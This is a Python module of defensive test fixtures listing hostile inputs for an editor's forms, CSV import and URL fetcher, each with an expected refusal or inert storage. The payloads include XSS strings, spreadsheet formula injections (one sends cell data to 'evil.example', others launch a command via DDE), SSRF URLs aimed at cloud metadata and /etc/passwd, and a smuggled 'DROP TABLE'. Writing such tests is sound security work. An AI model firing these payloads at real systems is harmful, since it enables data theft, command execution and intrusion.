"""Hostile input for the editor surfaces, as data: what arrives, where, and what must happen.

Every payload is synthetic, written here. ``target`` names the door it comes through (see
tests/test_hostile_input.py for how each door is driven); ``outcome`` is "refused" (the
request fails with ``message`` and the database is left exactly as it was) or "inert"
(stored exactly as given and rendered as text: the HTML carries the escaped payload and
never the raw markup).

Not here, and tested where the network is real: a public URL that redirects to a private
address (tests/test_fetch.py::test_fetch_redirect_to_loopback_literal_is_refused) and a name
that resolves to loopback at connect time, which is what defeats DNS rebinding
(tests/test_fetch.py::test_fetch_guard_on_refuses_a_name_resolving_to_loopback,
tests/test_netguard.py::test_guarded_backend_refuses_a_name_resolving_to_loopback).
The admin form also resolves the name once, through an injected resolver in these tests.
"""

from __future__ import annotations

from dataclasses import dataclass

REFUSED = "refused"
INERT = "inert"
HUGE = "A" * 100_000
RLO = "\u202e"
PRIVATE_ADDRESS = "not a public internet address"


@dataclass(frozen=True)
class HostileCase:
    category: str
    target: str
    payload: str | bytes
    outcome: str
    message: str = ""

    @property
    def id(self) -> str:
        shown = self.payload if isinstance(self.payload, str) else self.payload.decode("latin-1")
        return f"{self.category}-{self.target}-{shown[:24]!r}"


XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "{{7*7}}{% raw %}<b>x</b>",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _cases() -> list[HostileCase]:
    cases: list[HostileCase] = []
    cases += [HostileCase("xss", "letter_title", p, INERT) for p in XSS]
    cases += [HostileCase("xss", "signer_name", p, INERT) for p in XSS]
    cases += [HostileCase("xss", "facet_value", p, INERT) for p in XSS[:3]]
    cases += [
        HostileCase("xss", "selector", "<script>alert(1)</script>", REFUSED,
                    "is not a valid CSS selector"),
        HostileCase("xss", "selector", 'img[onerror="alert(1)"]', INERT),
        HostileCase("xss", "selector", 'a[href^="javascript:"]', INERT),
        HostileCase("xss", "selector", "li:expression(alert(1))", REFUSED,
                    "is not a valid CSS selector"),
        HostileCase("xss", "roster_name", "<script>alert('roster')</script>", INERT),
        HostileCase("xss", "login_name", '<script>alert("login")</script>', REFUSED,
                    "Wrong name or password."),
        HostileCase("xss", "letter_url", "javascript:alert(1)", REFUSED,
                    "scheme &#39;javascript&#39; refused"),
    ]
    cases += [HostileCase("formula", "signer_name", p, INERT) for p in FORMULAS]
    cases += [HostileCase("formula", "roster_csv",
                          b'name,network\n"=HYPERLINK(""http://evil.example"",""x"")",CNN\n',
                          INERT),
              HostileCase("formula", "letter_title", "=1+1", INERT)]
    cases += _long_and_control_cases()
    cases += _ssrf_cases()
    cases += _structure_cases()
    return cases


def _long_and_control_cases() -> list[HostileCase]:
    nul = "Elie\x00Honig"
    return [
        HostileCase("huge", "letter_title", HUGE, REFUSED, "cannot be longer than 500"),
        HostileCase("huge", "letter_url", "https://example.org/" + HUGE, REFUSED,
                    "longer than 2048 characters"),
        HostileCase("huge", "selector", "li" + " li" * 300, REFUSED,
                    "the selector is longer than 500 characters"),
        HostileCase("huge", "facet_value", HUGE, REFUSED, "cannot be longer than 500"),
        HostileCase("huge", "login_name", HUGE, REFUSED, "cannot be longer than 80 characters"),
        HostileCase("huge", "roster_csv", b"name\n" + HUGE.encode() + b"\n", REFUSED,
                    "line 2: a field is longer than 2000 characters"),
        HostileCase("huge", "interval", "9" * 5000 + "d", REFUSED,
                    "the interval is longer than 32 characters"),
        HostileCase("nul", "letter_title", nul, REFUSED, "control character (U+0000)"),
        HostileCase("nul", "organizer", nul, REFUSED, "control character (U+0000)"),
        HostileCase("nul", "letter_url", "https://example.org/\x00x", REFUSED,
                    "control character (U+0000)"),
        HostileCase("nul", "selector", "li\x00", REFUSED, "control character (U+0000)"),
        HostileCase("nul", "interval", "15m\x00", REFUSED, "control character (U+0000)"),
        HostileCase("nul", "facet_value", nul, REFUSED, "control character (U+0000)"),
        HostileCase("nul", "roster_csv", b"name\nElie\x00Honig\n", REFUSED, "line 2: NUL byte"),
        HostileCase("nul", "login_name", nul, REFUSED, "Wrong name or password."),
        HostileCase("control", "letter_title", "Statement\x1b[31m", REFUSED,
                    "control character (U+001B)"),
        HostileCase("rtl", "letter_title", f"Statement {RLO}exe.gnp", INERT),
        HostileCase("rtl", "signer_name", f"Elie {RLO}gino{RLO}H", INERT),
        HostileCase("rtl", "facet_value", f"CNN{RLO} analyst", INERT),
        HostileCase("rtl", "letter_url", f"https://example.org/{RLO}gnp.exe", REFUSED,
                    "invisible formatting character"),
    ]


def _ssrf_cases() -> list[HostileCase]:
    private = [
        "http://127.0.0.1/", "http://[::1]/", "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/", "http://192.168.1.1/", "http://172.16.0.1/", "http://0.0.0.0/",
        "http://127.1/", "http://0x7f.0.0.1/", "http://2130706433/",
        "http://[::ffff:127.0.0.1]/", "http://[fd00::1]/", "http://100.64.0.1/",
        "http://internal.example/",  # the injected resolver says 10.0.0.5
        "http://192.168.0.1./",  # a trailing dot: a name to check_url, an address to DNS
    ]
    cases = [HostileCase("ssrf", "letter_url", url, REFUSED, PRIVATE_ADDRESS) for url in private]
    return cases + [
        HostileCase("ssrf", "letter_url", "http://localhost:8080/", REFUSED, "refused"),
        HostileCase("ssrf", "letter_url", "file:///etc/passwd", REFUSED,
                    "scheme &#39;file&#39; refused"),
        HostileCase("ssrf", "letter_url", "gopher://127.0.0.1:6379/_FLUSHALL", REFUSED,
                    "scheme &#39;gopher&#39; refused"),
        HostileCase("ssrf", "letter_url", "http://user:pw@example.org/", REFUSED,
                    "user name or password"),
        HostileCase("ssrf", "letter_url", "http://example.org:6379/", REFUSED,
                    "port 6379 refused"),
    ]


def _structure_cases() -> list[HostileCase]:
    return [
        HostileCase("encoding", "roster_csv", "name\nJosé\n".encode("utf-16"), REFUSED,
                    "not UTF-8"),
        HostileCase("encoding", "roster_csv", b"\x89PNG\r\n\x1a\n\x00\x00", REFUSED,
                    "not UTF-8"),
        HostileCase("structure", "roster_csv", b"network\nCNN\n", REFUSED,
                    "the header needs a &#39;name&#39; column"),
        HostileCase("structure", "roster_csv", b'name\n"unclosed\n', REFUSED, "line"),
        HostileCase("structure", "interval", "15m; DROP TABLE letter", REFUSED,
                    "is not an interval"),
        HostileCase("structure", "interval", "-1m", REFUSED, "is not an interval"),
    ]


CASES = _cases()
